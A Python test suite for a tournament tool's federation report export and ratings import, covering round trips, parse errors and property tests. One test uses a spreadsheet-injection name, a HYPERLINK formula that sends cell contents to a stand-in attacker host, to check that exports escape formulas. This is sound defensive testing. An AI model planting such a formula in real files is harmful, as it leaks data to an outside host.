"""The federation report (issue 39): ``tournament export --format federation`` writes one text
file a rating office reads (docs/federation.md), and ``tournament ratings --from`` reads it back,
rating players by their federation id across events."""

from __future__ import annotations

import json
from pathlib import Path

import attrs
import pytest
from hypothesis import given, settings, strategies as hs

from domrec.reader import loads as load_record
from domrec.record import unstructure

from tournament import (add_pairs, add_players, create_event, enter_forfeit, enter_manual, enter_record,
                        make_settings, pair_next_round)
from tournament.errors import FederationFileError
from tournament.event import federation, federation_file as ff
from tournament.event.files import open_event
from tournament.event.ratings import event_games, report_games

from tests.conftest import examples
from tests.tournament.conftest import play_table
from tests.tournament.test_cli import run


def play_round(store, seed: int = 0) -> None:
    pair_next_round(store)
    for i, table in enumerate(store.tables(store.last_round())):
        enter_record(store, play_table(store, table, seed=seed + i), f"t{table.number}.json")


def export(path: Path, out: Path) -> ff.Report:
    r = run("export", path, "--format", "federation", "-o", out)
    assert r.exit_code == 0, r.output
    return ff.read(str(out), out.read_bytes())


def rating_rows(ratings: Path, *args: str) -> dict:
    r = run("ratings", ratings, *args, "--json")
    assert r.exit_code == 0, r.output
    return json.loads(r.stdout)


# --- a round trip: two events, one ratings file, players by their id ------------------------------------


def test_two_events_rate_players_by_their_federation_id(tmp_path: Path):
    spring = create_event(tmp_path / "spring.db", make_settings("Spring", "competitive", "rotating", seed=1))
    add_players(spring, ["Ana", "Bo", "Cy", "Di", "Ed", "Flo", "Gus", "Hal"],
                ids=["ES-1", "ES-2", "ES-3", "ES-4", "ES-5", "ES-6", "ES-7", None])
    play_round(spring, 1)
    play_round(spring, 20)
    spring.close()
    # Autumn: Ana is entered as "Ana María" (the same id), Hal still has no id, Ivo is new.
    autumn = create_event(tmp_path / "autumn.db", make_settings("Autumn", "competitive", "rotating", seed=2))
    add_players(autumn, ["Ana María", "Bo", "Cy", "Di", "Ed", "Flo", "Ivo", "Hal"],
                ids=["ES-1", "ES-2", "ES-3", "ES-4", "ES-5", "ES-6", "ES-9", None])
    play_round(autumn, 40)
    autumn.close()
    a = export(tmp_path / "spring.db", tmp_path / "spring.dfr")
    b = export(tmp_path / "autumn.db", tmp_path / "autumn.dfr")
    assert {p.name: p.fed_id for p in a.players}["Ana"] == "ES-1"
    assert {p.name: p.fed_id for p in b.players}["Ana María"] == "ES-1"
    ratings = tmp_path / "ratings.db"
    r = run("ratings", ratings, "--from", tmp_path / "spring.dfr", "--from", tmp_path / "autumn.dfr")
    assert r.exit_code == 0, r.output
    assert "spring.dfr: Spring: 4 games added" in r.output
    assert "1 player without a federation id, matched by name" in r.output  # Hal
    doc = rating_rows(ratings)
    rows = {row["name"]: row for row in doc["ratings"]}
    assert "Ana" not in rows and rows["Ana María"]["events"] == 2 and rows["Ana María"]["games"] == 3
    assert rows["Hal"]["events"] == 2 and rows["Ivo"]["events"] == 1
    assert len(rows) == 9 and len(doc["events"]) == 2
    assert rows["Ana María"]["id"] == "ES-1" and rows["Ivo"]["id"] == "ES-9" and rows["Hal"]["id"] == ""
    table = run("ratings", ratings, "--csv")
    assert table.stdout.splitlines()[0].startswith("rank,id,name,rating")
    assert any(line.split(",")[1:3] == ["ES-1", "Ana María"] for line in table.stdout.splitlines())
    screen = run("ratings", ratings)
    assert "ES-9" in screen.stdout and "id" in screen.stdout.splitlines()[0] + screen.stdout
    # The same files again rate nothing twice; nor does the event file itself after its report.
    again = run("ratings", ratings, "--from", tmp_path / "autumn.dfr", "--add", tmp_path / "spring.db")
    assert again.exit_code == 0
    assert "autumn.dfr: Autumn: already imported; nothing changed (2 games)" in again.output
    assert "spring.db: Spring: already imported; nothing changed (4 games)" in again.output
    assert rating_rows(ratings)["ratings"] == doc["ratings"]


def test_the_ratings_from_a_report_are_those_from_its_event_file(tmp_path: Path):
    """Imported from its event file (``--add``) or its report (``--from``), an event rates the same."""
    store = create_event(tmp_path / "ev.db", make_settings("Liga", "competitive", "pairs", seed=3))
    add_pairs(store, [("Ana", "Bo", None), ("Cy", "Di", None), ("Ed", "Flo", None), ("Gus", "Hal", None)],
              ids=[("ES-1", "ES-2"), (None, "ES-4"), ("ES-5", None), (None, None)])
    play_round(store, 3)
    play_round(store, 9)
    store.close()
    export(tmp_path / "ev.db", tmp_path / "ev.dfr")
    by_file = rating_rows(tmp_path / "a.db", "--add", str(tmp_path / "ev.db"))["ratings"]
    by_report = rating_rows(tmp_path / "b.db", "--from", str(tmp_path / "ev.dfr"))["ratings"]
    assert by_file == by_report and len(by_file) == 8


# --- every format ---------------------------------------------------------------------------------------

FORMATS = {
    "pairs": ["--format", "pairs", "--players", "8", "--rounds", "2"],
    "rotating": ["--players", "9", "--rounds", "2"],
    "individual": ["--game", "castle-rock", "--format", "individual", "--players", "7", "--table-size", "3",
                   "--rounds", "2"],
    "teams": ["--format", "teams", "--teams", "4", "--rounds", "1"],
    "knockout": ["--format", "pairs", "--players", "8", "--rounds", "0", "--stage", "single", "--first-to", "2"],
    "double-knockout": ["--format", "pairs", "--players", "8", "--rounds", "1", "--stage", "double"],
    "multi-player-knockout": ["--game", "castle-rock", "--format", "individual", "--players", "9", "--table-size",
                              "3", "--rounds", "1", "--stage", "multi"],
    "groups": ["--format", "pairs", "--players", "8", "--rounds", "0", "--stage", "groups", "--groups", "2"],
    "duplicate": ["--format", "duplicate", "--tables", "3", "--rounds", "2"],
    "duplicate-teams": ["--format", "teams", "--duplicate", "--teams", "4", "--rounds", "1"],
}


@pytest.mark.parametrize("name", list(FORMATS))
def test_every_format_exports_every_game_and_reads_back(tmp_path: Path, name: str):
    path = tmp_path / "ev.db"
    r = run("simulate", path, "--seed", "5", "-q", *FORMATS[name])
    assert r.exit_code == 0, r.output
    every_game_in_its_report(path, tmp_path / "ev.dfr", name.startswith("duplicate"))


def test_a_rotating_events_final_tables_are_in_its_report(tmp_path: Path):
    from tournament.event.simulate import play_stage

    path = tmp_path / "ev.db"
    assert run("simulate", path, "--players", "8", "--rounds", "2", "--seed", "3", "-q").exit_code == 0
    assert run("final", path, "--top", "4").exit_code == 0
    store = open_event(path)
    assert play_stage(store, seed=5) == 3
    store.close()
    report = every_game_in_its_report(path, tmp_path / "ev.dfr", False)
    assert [g.round for g in report.games if g.match] == [3, 4, 5]


def every_game_in_its_report(path: Path, out: Path, duplicate: bool) -> ff.Report:
    """The event's report holds every table as a game (its seats, scores, winner, kind), every bye,
    a duplicate table's boards, and rates exactly what the event file rates."""
    report = export(path, out)
    store = open_event(path)
    try:
        assert report.uuid == store.uuid and report.game == store.settings.game
        assert report.value("format") == store.settings.format_name
        results = store.results()
        tables = store.tables()
        games = {g.game_id: g for g in report.games}
        assert len(games) == len(tables) == len(report.games)
        players = {p.number: p for p in report.players}
        assert set(players) == {p.id for p in store.players()}
        for t in tables:
            g = games[t.id]
            assert (g.round, g.table) == (t.round, t.number)
            assert sorted((side.side, seat, p) for side in g.sides for seat, p in side.seats) == \
                sorted((s.side, s.seat, s.player) for s in t.seats)
            res = results.get(t.id)
            if res is None:
                assert g.kind in (ff.BOARDS, ff.NONE) and all(s.score is None for s in g.sides) and g.winner is None
                continue
            assert {s.side: s.score for s in g.sides} == res.scores
            assert g.winner == (res.winner if res.winner is not None else ff.DRAW)
            assert g.kind == {"record": ff.RECORD, "manual": ff.MANUAL, "forfeit": ff.FORFEIT}[res.kind]
            if res.kind == "record":
                assert g.ending in ("out", "blocked", "target", "sudden-death", "time")
        assert {(b.round, b.player) for b in report.byes} == {(r_, p) for r_, ps in store.byes().items() for p in ps}
        if duplicate:
            assert report.boards and all(g.kind == ff.BOARDS for g in report.games)
            assert all(b.ending in ("out", "blocked") for b in report.boards)
        else:
            assert not report.boards
        # What the ratings take from the report is what they take from the event file.
        assert report_games(report) == list(event_games(store))
    finally:
        store.close()
    return report


# --- how each game ended ------------------------------------------------------------------------------


def test_forfeits_typed_scores_and_the_clock_are_said(tmp_path: Path):
    store = create_event(tmp_path / "ev.db", make_settings("Liga", "competitive", "pairs", seed=3, time_limit=40))
    add_pairs(store, [("Ana", "Bo", None), ("Cy", "Di", None), ("Ed", "Flo", None), ("Gus", "Hal", None),
                      ("Ivo", "Jo", None), ("Kai", "Lu", None)])
    pair_next_round(store)
    t1, t2, t3 = store.tables(1)
    enter_forfeit(store, t1.number, ("NS",))
    enter_manual(store, t2.number, {"NS": 150, "EW": 201})
    full = load_record(play_table(store, t3, seed=2))
    timed = attrs.evolve(full, hands=full.hands[:2], result=None, ended="time", version="1.1")
    enter_record(store, json.dumps(unstructure(timed)), "timed.json")
    store.close()
    report = export(tmp_path / "ev.db", tmp_path / "ev.dfr")
    by_table = {g.table: g for g in report.games}
    assert (by_table[1].kind, by_table[1].ending, by_table[1].winner) == ("forfeit", "forfeit", "EW")
    assert [s.absent for s in by_table[1].sides] == [True, False]
    assert (by_table[2].kind, by_table[2].ending, by_table[2].winner) == ("manual", None, "EW")
    assert (by_table[3].kind, by_table[3].ending) == ("record", "time")
    assert ("time_limit", "40") in report.event
    lines = (tmp_path / "ev.dfr").read_text(encoding="utf-8").splitlines()
    first = next(x for x in lines if x.startswith("002\t"))
    assert first.startswith(f"002\t{t1.id}\t1\t1\t\tforfeit\tforfeit\tEW\tNS 0 N=")
    assert " absent\tEW 200 E=" in first
    # Only the recorded game is rated (a forfeit is no game, a typed score unverified).
    assert [g["table_no"] for g in report_games(report)] == [3]


def test_a_hand_that_ended_blocked_is_said_from_its_replay():
    """The ending is the replay's, not a claim: a record claiming no end still says how it ended."""
    from domrec import simulate

    record = next(iter(simulate.simulate("competitive", 1, seed=4, accidents=False)))
    claimed = record.hands[-1].result.end
    bare = attrs.evolve(record, hands=record.hands[:-1] + (attrs.evolve(record.hands[-1], result=None),),
                        result=None)
    assert federation.game_ending(json.dumps(unstructure(bare))) == claimed
    assert federation.game_ending("not json") is None


# --- federation ids on the roster ----------------------------------------------------------------------


def test_a_players_csv_may_head_the_id_fed_id_and_a_repeat_is_refused(tmp_path: Path):
    path = tmp_path / "ev.db"
    assert run("new", path, "--name", "Liga", "--game", "competitive", "--format", "rotating").exit_code == 0
    csv = tmp_path / "players.csv"
    csv.write_text("name,fed_id,club,rating\nAna,ES-1,Norte,1850\nBo,ES-2,Sur,\nCy,,Norte,1720.5\nDi,ES-4,,\n",
                   encoding="utf-8")
    assert run("add", path, "--csv", csv).exit_code == 0
    shown = run("players", path, "--csv").output
    assert "Ana,ES-1,1,,Norte,1850" in shown.replace("\r", "")
    again = run("add", path, "Eva", "--id", "ES-1")
    assert again.exit_code == 1 and again.output.strip().count("\n") == 0 and "already #1's" in again.output
    both = tmp_path / "both.csv"
    both.write_text("name,federation,id\nEva,ES-7,ES-8\n", encoding="utf-8")
    r = run("add", path, "--csv", both)
    assert r.exit_code == 2 and "federation and id are the same column" in r.output
    report = export(path, tmp_path / "ev.dfr")
    assert [(p.number, p.fed_id, p.name, p.club, p.rating) for p in report.players] == [
        (1, "ES-1", "Ana", "Norte", "1850"), (2, "ES-2", "Bo", "Sur", None), (3, None, "Cy", "Norte", "1720.5"),
        (4, "ES-4", "Di", None, None)]


# --- the file is written by domrec.output's rules ------------------------------------------------------------


def test_the_report_replaces_only_its_own_earlier_file(tmp_path: Path):
    store = create_event(tmp_path / "ev.db", make_settings("Liga", "competitive", "pairs", seed=3))
    add_pairs(store, [("Ana", "Bo", None), ("Cy", "Di", None)])
    store.close()
    out = tmp_path / "ev.dfr"
    export(tmp_path / "ev.db", out)
    export(tmp_path / "ev.db", out)  # its own earlier report: replaced
    notes = tmp_path / "notes.txt"
    notes.write_text("mine\n", encoding="utf-8")
    r = run("export", tmp_path / "ev.db", "--format", "federation", "-o", notes)
    assert r.exit_code == 2 and "--force" in r.output and notes.read_text(encoding="utf-8") == "mine\n"
    r = run("export", tmp_path / "ev.db", "--format", "federation", "-o", tmp_path / "ev.db")
    assert r.exit_code == 2 and "is the file this command reads" in r.output  # (not even with --force)
    r = run("export", tmp_path / "ev.db", "--format", "federation", "-o", "-")
    assert r.exit_code == 0 and r.stdout.startswith("000\tDFR\t1\t")
    bad = run("export", tmp_path / "ev.db", "--format", "trf", "-o", out)
    assert bad.exit_code == 2 and "json, csv or federation" in bad.output
    both = run("export", tmp_path / "ev.db", "--format", "federation", "--csv", "-o", out)
    assert both.exit_code == 2 and "writes one file" in both.output
    assert run("export", tmp_path / "ev.db", "--format", "json", "--csv", "-o", tmp_path / "c").exit_code == 2
    assert run("export", tmp_path / "ev.db", "--format", "csv", "-o", tmp_path / "c").exit_code == 0
    assert (tmp_path / "c" / "players.csv").exists()


# --- malformed files: one line at FILE:line:column, exit 2, nothing made --------------------------------

GOOD = ("000\tDFR\t1\tdomrec tournament export\n012\tuuid\tu-1\n012\tname\tLiga\n012\tgame\tcompetitive\n"
        "012\tformat\tpairs\n001\t1\tES-1\tAna\t\t\t1\t\t\n001\t2\t\tBo\t\t\t1\t\t\n001\t3\t\tCy\t\t\t1\t\t\n"
        "001\t4\t\tDi\t\t\t1\t\t\n002\t7\t1\t1\t\trecord\tout\tNS\tNS 200 N=1 S=2\tEW 120 E=3 W=4\n")


@pytest.mark.parametrize("text, line, column, words", [
    ("", 1, 1, "the file is empty"),
    ("hello\n", 1, 1, "its first line must be the header"),
    ("000\tTRF\t1\n", 1, 5, "the format is 'TRF'"),
    ("000\tDFR\t2\n", 1, 9, "newer than this tool reads"),
    (GOOD + "009\tx\n", 11, 1, "unknown line code '009'"),
    (GOOD + "001\t1\t\tEva\t\t\t1\t\t\n", 11, 5, "player number 1 is on two lines"),
    (GOOD + "001\t5\tES-1\tEva\t\t\t1\t\t\n", 11, 7, "also player 1's"),
    (GOOD + "001\tfive\t\tEva\t\t\t1\t\t\n", 11, 5, "a whole number, not 'five'"),
    (GOOD + "001\t5\t\tEva\t1\n", 11, 13, "has 5 fields, and needs 9"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tNS\tNS 200 N=1 S=9\tEW 120 E=3 W=4\n", 11, 26, "player 9 is not on"),
    (GOOD + "002\t8\t1\t2\t\tplayed\tout\tNS\tNS 200 N=1 S=2\tEW 120 E=3 W=4\n", 11, 12, "kind is one of"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tXY\tNS 200 N=1 S=2\tEW 120 E=3 W=4\n", 11, 23, "the winner must be"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tNS\tNS two N=1 S=2\tEW 120 E=3 W=4\n", 11, 26, "score must be a whole"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tNS\tNS 200 N1 S=2\tEW 120 E=3 W=4\n", 11, 26, "SEAT=NUMBER"),
    (GOOD + "002\t7\t1\t2\t\trecord\tout\tNS\tNS 200 N=1 S=2\tEW 120 E=3 W=4\n", 11, 5, "game 7 is on two lines"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tNS\tNS - N=1 S=2\tEW 120 E=3 W=4\n", 11, 26, "has a score for every"),
    (GOOD + "002\t8\t1\t2\t\trecord\tout\tNS\tNS 1 N=1 S=1\tEW 120 E=3 W=4\n", 11, 26, "sits twice"),
    (GOOD + "003\t1\t12\n", 11, 7, "player 12 is not on"),
    (GOOD + "005\t1\t1\t1\tout\t0\t30\tmaybe\n", 11, 20, "verified is yes or no"),
    (GOOD + "012\tname\tAgain\n", 11, 5, "the event's name is given twice"),
    (GOOD + "001\t5\t\tEv\\a\t\t\t1\t\t\n", 11, 8, "a backslash starts"),
    (GOOD + "001\t5\t\tEv\\ud800\t\t\t1\t\t\n", 11, 8, "half of a UTF-16 pair"),
    (GOOD.replace("012\tuuid\tu-1\n", ""), 1, 1, "the event's uuid is missing"),
    (GOOD + "000\tDFR\t1\n", 11, 1, "a second header"),
    (GOOD.replace("game\tcompetitive", "game\tchess"), 4, 10, "the game is one of broadway, competitive"),
    (GOOD.replace("format\tpairs", "format\tswiss"), 5, 12, "the format is one of pairs, rotating, individual"),
    (GOOD.replace("Ana", "An\udce1"), 6, 14, "not UTF-8"),
])
def test_a_malformed_report_is_one_line_at_its_place(tmp_path: Path, text: str, line: int, column: int, words: str):
    path = tmp_path / "bad.dfr"
    path.write_bytes(text.encode("utf-8", "surrogateescape"))
    ratings = tmp_path / "ratings.db"
    r = run("ratings", ratings, "--from", path)
    assert r.exit_code == 2
    out = r.output.strip()
    assert out.count("\n") == 0, out
    assert out.startswith(f"error: {path}:{line}:{column}: "), out
    assert words in out
    assert not ratings.exists()  # nothing made from a file that could not be read
    with pytest.raises(FederationFileError):
        ff.read(str(path), path.read_bytes())


def test_the_good_file_of_those_reads_and_comments_are_skipped(tmp_path: Path):
    path = tmp_path / "good.dfr"
    path.write_text("# from the club's secretary\n" + GOOD.replace("\n001\t2", "\n\n001\t2"), encoding="utf-8")
    r = run("ratings", tmp_path / "ratings.db", "--from", path)
    assert r.exit_code == 0, r.output
    assert "1 games added" in r.output and "3 players without a federation id, matched by name" in r.output
    missing = run("ratings", tmp_path / "ratings.db", "--from", tmp_path / "nowhere.dfr")
    assert missing.exit_code == 2 and missing.output.strip() == f"error: {tmp_path / 'nowhere.dfr'}: no such file"


def test_an_event_file_or_a_long_bad_field_given_to_from_is_still_one_short_line(tmp_path: Path):
    store = create_event(tmp_path / "ev.db", make_settings("Liga", "competitive", "pairs", seed=3))
    store.close()
    r = run("ratings", tmp_path / "r.db", "--from", tmp_path / "ev.db")
    assert r.exit_code == 2 and "ev.db:1:1: an SQLite database (an event file? read it with --add)" in r.output
    long = tmp_path / "long.dfr"
    long.write_text(GOOD + "001\t" + "9" * 100_000 + "x\t\tEva\t\t\t1\t\t\n", encoding="utf-8")
    r = run("ratings", tmp_path / "r.db", "--from", long)
    assert r.exit_code == 2 and "long.dfr:11:5: the player's number must be a whole number" in r.output
    assert len(r.output) < 300 and "…" in r.output
    assert not (tmp_path / "r.db").exists()


def test_a_report_of_another_game_is_refused_by_a_ratings_file(tmp_path: Path):
    path = tmp_path / "good.dfr"
    path.write_text(GOOD, encoding="utf-8")
    other = tmp_path / "other.dfr"
    other.write_text(GOOD.replace("competitive", "broadway").replace("u-1", "u-2"), encoding="utf-8")
    assert run("ratings", tmp_path / "r.db", "--from", path).exit_code == 0
    r = run("ratings", tmp_path / "r.db", "--from", other)
    assert r.exit_code == 1 and "keep one ratings file per game" in r.output


def test_no_field_a_spreadsheet_opens_is_a_formula_and_each_reads_back(tmp_path: Path):
    """A clerk opens the report in a spreadsheet (TAB-separated): a name typed as a formula
    (``=HYPERLINK(…)``, ``+``, ``-``, ``@`` first) must not run there; it is written with its first
    character as an escape every reader reads back, and a number stays a number."""
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "Ana", "Bo", "Cy", "Di"]
    store = create_event(tmp_path / "ev.db", make_settings("=1+1", "competitive", "rotating", seed=1))
    add_players(store, names, ids=["-7", "@ES-2", None, None, None, None, None, None])
    play_round(store)
    store.close()
    report = export(tmp_path / "ev.db", tmp_path / "ev.dfr")
    for line in (tmp_path / "ev.dfr").read_text().splitlines():
        for field in line.split("\t"):
            assert not field.startswith(("=", "+", "-", "@")) or field.lstrip("-+").isdigit(), line
    assert {p.name for p in report.players} == set(names)
    assert {p.fed_id for p in report.players} == {"-7", "@ES-2", None}
    assert dict(report.event)["name"] == "=1+1"


# --- a property: what is written reads back as the same report ------------------------------------------

_text = hs.text(hs.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12)
_word = hs.from_regex(r"[A-Za-z0-9][A-Za-z0-9_-]{0,6}", fullmatch=True)
_seat = hs.from_regex(r"[A-Za-z0-9]{1,3}", fullmatch=True)
_score = hs.integers(-10**6, 10**6)


@hs.composite
def reports(draw):
    n = draw(hs.integers(2, 8))
    ids = draw(hs.lists(_text, min_size=n, max_size=n, unique=True))
    players = tuple(ff.Player(i + 1, draw(hs.sampled_from([None, ids[i]])), draw(_text),
                              draw(hs.none() | _text), draw(hs.none() | _text), draw(hs.integers(1, 9)),
                              draw(hs.none() | hs.integers(1, 9)), draw(hs.none() | _text)) for i in range(n))
    games = []
    for gid in draw(hs.lists(hs.integers(1, 10**6), unique=True, max_size=6)):
        kind = draw(hs.sampled_from(ff.KINDS))
        people = draw(hs.permutations(range(1, n + 1)))
        k = draw(hs.integers(2, n))
        labels = draw(hs.lists(_word, min_size=k, max_size=k, unique=True))
        scored = kind in (ff.RECORD, ff.MANUAL, ff.FORFEIT)
        sides = tuple(ff.Side(label, draw(_score) if scored else draw(hs.none() | _score),
                              ((draw(_seat), people[i]),), draw(hs.booleans()))
                      for i, label in enumerate(labels))
        winner = draw(hs.sampled_from([None, ff.DRAW, *labels]))
        games.append(ff.Game(gid, draw(hs.integers(1, 99)), draw(hs.integers(1, 99)), draw(hs.none() | _text), kind,
                             draw(hs.none() | _word), winner, sides))
    event = (("uuid", draw(_text)), ("name", draw(_text)), ("game", draw(hs.sampled_from(ff.GAMES))),
             ("format", draw(hs.sampled_from(ff.EVENT_FORMATS))),
             *draw(hs.lists(hs.tuples(_text.filter(lambda k: k not in ff.REQUIRED_KEYS), hs.text(max_size=8)),
                            max_size=4)))
    byes = tuple(ff.Bye(draw(hs.integers(1, 9)), draw(hs.integers(1, n))) for _ in range(draw(hs.integers(0, 2))))
    boards = tuple(ff.Board(draw(hs.integers(1, 9)), draw(hs.integers(1, 9)), draw(hs.integers(1, 99)),
                            draw(hs.none() | _word), draw(_score), draw(_score), draw(hs.booleans()))
                   for _ in range(draw(hs.integers(0, 3))))
    rounds = tuple(ff.Round(r, draw(hs.integers(1, 3)), draw(_text)) for r in range(1, draw(hs.integers(0, 3)) + 1))
    return ff.Report(event, players, rounds, tuple(games), byes, boards)


@settings(max_examples=examples(50, 2000), deadline=None)
@given(reports())
def test_what_is_written_reads_back_the_same(report: ff.Report):
    text = ff.dumps(report)
    assert ff.loads(text, "x.dfr") == report
    assert ff.read("x.dfr", text.encode("utf-8")) == report
    assert text.splitlines() == text.split("\n")[:-1]  # no other character any program takes for a line's end
    assert all(line.count("\t") >= 2 for line in text.splitlines())


@settings(max_examples=examples(20, 200), deadline=None)
@given(hs.integers(0, 2**31))
def test_an_events_games_read_back_from_its_report(tmp_path_factory, seed: int):
    """export -> parse gives back the event's games: every table, its seats, scores and winner."""
    folder = tmp_path_factory.mktemp("ev")
    store = create_event(folder / "ev.db", make_settings("Liga", "competitive", "rotating", seed=seed % 1000))
    add_players(store, ["Ana", "Bo", "Cy", "Di", "Ed"], ids=["A1", None, "C3", "D4", None])
    pair_next_round(store)
    table = store.tables(1)[0]
    enter_record(store, play_table(store, table, seed=seed), "g.json")
    text = federation.text_of(store)
    report = ff.loads(text)
    [game] = report.games
    assert game.game_id == table.id and game.winner == store.results()[table.id].winner
    assert {s.side: s.score for s in game.sides} == store.results()[table.id].scores
    assert sorted((side.side, seat, p) for side in game.sides for seat, p in side.seats) == \
        sorted((s.side, s.seat, s.player) for s in table.seats)
    assert [b.player for b in report.byes] == store.byes()[1]
    store.close()


def test_a_file_made_before_federation_ids_exports_and_is_not_changed_by_it(tmp_path: Path):
    """A file without the ``players.federation_id`` column (schema 5: no id was ever given) is read
    as it is; its first id adds the column (the desk's migration), and the next report carries it."""
    import sqlite3

    from tournament.store import desk

    path = tmp_path / "ev.db"
    store = create_event(path, make_settings("Club", "competitive", "rotating", seed=1))
    add_players(store, ["Ana", "Bo", "Cy", "Di"])
    assert not desk.has_federation_ids(store)
    store.close()
    before = sqlite3.connect(path).execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone()[0]
    report = export(path, tmp_path / "a.dfr")
    assert [p.fed_id for p in report.players] == [None] * 4
    after = sqlite3.connect(path).execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone()[0]
    assert before == after == "5"
    assert run("player-id", path, "Bo", "ES-22").exit_code == 0
    assert [p.fed_id for p in export(path, tmp_path / "a.dfr").players] == [None, "ES-22", None, None]


def test_the_example_in_the_docs_is_what_the_tool_writes(tmp_path: Path):
    docs = (Path(__file__).resolve().parents[2] / "docs" / "federation.md").read_text(encoding="utf-8")
    shown = docs[docs.index("```\n000\tDFR") + 4:]
    shown = shown[:shown.index("```")]
    path = tmp_path / "copa.db"
    assert run("new", path, "--name", "Copa del Puerto", "--game", "competitive", "--format", "pairs", "--seed", "3",
               "--time-limit", "40").exit_code == 0
    csv = tmp_path / "copa.csv"
    csv.write_text("name,partner,pair,id,partner_id,club,rating,partner_rating\n"
                   "Ana López,Bo Ruiz,Los Primos,ES-1041,ES-2210,Norte,1850,1790\nCy Paz,Di Vega,,ES-0007,,Sur,1702,\n"
                   "Ed Gil,Flo Sanz,,ES-3300,ES-3301,Norte,,\n", encoding="utf-8")
    assert run("add", path, "--csv", csv).exit_code == 0
    assert run("add", path, "Gus Mora", "Hal Ortiz").exit_code == 0
    assert run("pair", path).exit_code == 0
    assert run("result", path, "--table", "1", "--score", "NS=200,EW=143").exit_code == 0
    assert run("result", path, "--table", "2", "--forfeit", "EW").exit_code == 0
    export(path, tmp_path / "copa.dfr")
    written = (tmp_path / "copa.dfr").read_text(encoding="utf-8")

    def steady(text: str) -> list[str]:
        return [x for x in text.splitlines() if not x.startswith(("012\tuuid\t", "012\texported\t"))]

    assert steady(written) == steady(shown)


def test_a_team_events_csv_may_head_the_id_fed_id_too(tmp_path: Path):
    path = tmp_path / "copa.db"
    assert run("new", path, "--name", "Copa", "--game", "competitive", "--format", "teams", "--team-size",
               "4").exit_code == 0
    csv = tmp_path / "teams.csv"
    csv.write_text("name,team,fed_id\nAna,Norte,ES-1\nBo,Norte,ES-2\nCy,Norte,\nDi,Norte,ES-4\n"
                   "Ed,Sur,ES-5\nFlo,Sur,\nGus,Sur,ES-7\nHal,Sur,ES-8\n", encoding="utf-8")
    r = run("add", path, "--csv", csv)
    assert r.exit_code == 0, r.output
    report = export(path, tmp_path / "copa.dfr")
    assert {p.name: (p.fed_id, p.entry) for p in report.players}["Ana"] == ("ES-1", "Norte")
    assert [p.fed_id for p in report.players].count(None) == 2


def test_a_table_still_to_play_is_a_game_without_a_result_and_is_not_rated(tmp_path: Path):
    store = create_event(tmp_path / "ev.db", make_settings("Liga", "competitive", "pairs", seed=3))
    add_pairs(store, [("Ana", "Bo", None), ("Cy", "Di", None)], ids=[("ES-1", "ES-2"), ("ES-3", "ES-4")])
    pair_next_round(store)
    store.close()
    report = export(tmp_path / "ev.db", tmp_path / "ev.dfr")
    [game] = report.games
    assert (game.kind, game.ending, game.winner) == (ff.NONE, None, None)
    assert [s.score for s in game.sides] == [None, None] and len(game.players()) == 4
    assert "\tnone\t\t\tNS - N=" in (tmp_path / "ev.dfr").read_text(encoding="utf-8")
    assert report_games(report) == []
    r = run("ratings", tmp_path / "r.db", "--from", tmp_path / "ev.dfr")
    assert r.exit_code == 0 and "0 games added" in r.output
